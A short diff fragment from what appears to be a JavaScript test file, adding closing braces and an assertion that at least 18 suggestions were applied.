+            }
+        }
+        assert.ok(applied >= 18, `${applied} suggestions applied`);
     });
 });
